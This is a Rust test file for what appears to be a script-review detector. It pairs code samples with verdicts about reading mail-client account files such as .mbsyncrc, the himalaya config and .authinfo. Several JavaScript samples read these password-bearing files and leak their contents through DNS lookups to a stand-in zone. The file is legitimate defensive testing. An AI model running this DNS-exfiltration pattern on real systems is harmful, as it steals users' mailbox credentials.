//! Session 50 (lead), issue 17:
//! - mail clients' account files (`~/.mbsyncrc`, `~/.config/himalaya/config.toml`,
//!   `~/.authinfo`, ...) hold the mailbox password: reading one is a secret's read, and what it
//!   holds sent out (here in DNS lookups) is exfiltration;
//! - a list spread into an array literal (`[...(text.match(re) ?? []), zone]`) keeps what the
//!   list was made of: the empty default stands for the matches of the secret text, whose
//!   pieces were lost when only the elements were kept.
//!
//! Each row has its twin: the same shape over project data stays clean.

use terraphim_script_review::{Language, Verdict};

use crate::rows;

use Language::{JavaScript as Js, Python as Py};
use Verdict::{Clean, Dangerous, Suspicious};

const LOOKUP: &str = "const dns = require('node:dns');\nconst fs = require('node:fs');\nconst os = require('node:os');\nconst path = require('node:path');\nfunction lookup(host) {\n  return new Promise((resolve) => dns.lookup(host, (err, a) => resolve(err ? null : a)));\n}\n";

fn js(body: &str) -> String {
    format!("{LOOKUP}{body}")
}

#[test]
fn a_mail_account_file_is_a_secret_and_its_pieces_stay_secret_through_a_spread_list() {
    rows(&[
        // The account file's text, cut into DNS labels by a match with an empty default and
        // spread into the name looked up.
        (
            Js,
            js("const CONFIG = path.join(os.homedir(), '.config', 'himalaya', 'config.toml');\nconst text = fs.readFileSync(CONFIG, 'utf8');\nfunction label(v) { return Buffer.from(String(v)).toString('hex').match(/.{1,60}/g) ?? []; }\nconst parts = [...label(text), 'zone.example.com'];\nlookup(parts.join('.'));\n"),
            Dangerous,
            "exfiltration",
        ),
        (
            Js,
            js("const text = fs.readFileSync(path.join(os.homedir(), '.mbsyncrc'), 'utf8');\nconst parts = [...(text.match(/.{1,60}/g) ?? []), 'zone.example.com'];\nlookup(parts.join('.'));\n"),
            Dangerous,
            "exfiltration",
        ),
        (
            Py,
            "import os\nfrom pathlib import Path\nrc = Path.home() / '.authinfo'\nprint(rc.read_text())\n".to_owned(),
            Dangerous,
            "exfiltration",
        ),
        // Reading it alone is a secret's read.
        (
            Js,
            "const fs = require('node:fs');\nconst os = require('node:os');\nconst path = require('node:path');\nconst rc = fs.readFileSync(path.join(os.homedir(), '.msmtprc'), 'utf8');\nconst hosts = rc.split('\\n').filter((l) => l.startsWith('host')).length;\nconsole.log(`${hosts} accounts`);\n".to_owned(),
            Suspicious,
            "secret-read",
        ),
        // Twins: the project's own host list resolved (the same spread and labels), and a
        // project file about the mail client.
        (
            Js,
            js("const text = fs.readFileSync(path.join(__dirname, 'hosts.txt'), 'utf8');\nconst parts = [...(text.match(/[a-z.]+/g) ?? []), 'example.com'];\nfor (const h of parts) lookup(h);\n"),
            Clean,
            "",
        ),
        (
            Js,
            js("const doc = fs.readFileSync(path.join(__dirname, 'docs', 'himalaya.md'), 'utf8');\nconsole.log(doc.split('\\n').length);\nlookup('imap.example.com');\n"),
            Clean,
            "",
        ),
    ]);
}
